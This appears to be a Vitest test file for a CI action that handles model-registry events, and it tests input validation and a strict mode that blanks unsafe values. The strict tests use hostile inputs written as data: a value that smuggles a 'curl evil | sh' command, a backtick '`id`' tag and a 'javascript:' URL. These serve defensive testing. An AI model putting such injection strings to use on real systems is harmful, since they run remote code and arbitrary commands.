import { describe, expect, it } from 'vitest'
import { runAction } from '../support/run-action.ts'
import { aliasAdded, dispatched, modelEvent } from './events.ts'

describe('a step with an input that is not understood', () => {
  it.each([
    [{ 'on-mismatch': 'ignore' }, 'The input on-mismatch is ignore. Set it to continue or fail.'],
    [{ strict: 'yes' }, 'The input strict is yes. Set it to true or false.'],
    [{ environments: 'production' }, 'Write one line for each alias or stage, as in production=prod.'],
  ])('fails for %j and says what to write', async (inputs, message) => {
    const { exit_code, stdout, outputs } = await runAction({ inputs, event: dispatched(aliasAdded) })
    expect(exit_code).toBe(1)
    expect(stdout).toContain(message)
    expect(outputs).toMatchObject({ matched: 'false', json: '{}' })
  })
})

describe('strict', () => {
  const hostile = 'v1"; curl evil | sh #'

  it('leaves a refused value empty and keeps the others', async () => {
    const event = modelEvent({ model: { reference: hostile }, change: { alias: 'production' } })
    const { outputs } = await runAction({ event: dispatched(event) })
    expect(outputs).toMatchObject({
      reason: 'unsafe-value',
      artifact: '',
      alias: 'production',
      model: 'resnet50',
    })
    expect(outputs['message']).toContain('The value of artifact holds characters')
  })

  it('lets every value through when it is off', async () => {
    const event = modelEvent({ model: { reference: hostile }, title: 'a -> b' })
    const { outputs } = await runAction({ inputs: { strict: 'false' }, event: dispatched(event) })
    expect(outputs).toMatchObject({ matched: 'true', artifact: hostile, title: 'a -> b' })
  })

  it('refuses all tags because of one', async () => {
    const event = modelEvent({ kind: 'tag.added', change: { tag: 'ok', tags: ['ok', '`id`'] } })
    const { outputs } = await runAction({ event: dispatched(event) })
    expect(outputs).toMatchObject({ reason: 'unsafe-value', tag: 'ok', tags: '[]' })
  })

  it('gives no link that is not plain https, and matches all the same', async () => {
    const event = modelEvent({ model: { url: 'javascript:alert(1)' } })
    const { outputs } = await runAction({ event: dispatched(event) })
    expect(outputs).toMatchObject({ matched: 'true', url: '' })
  })
})
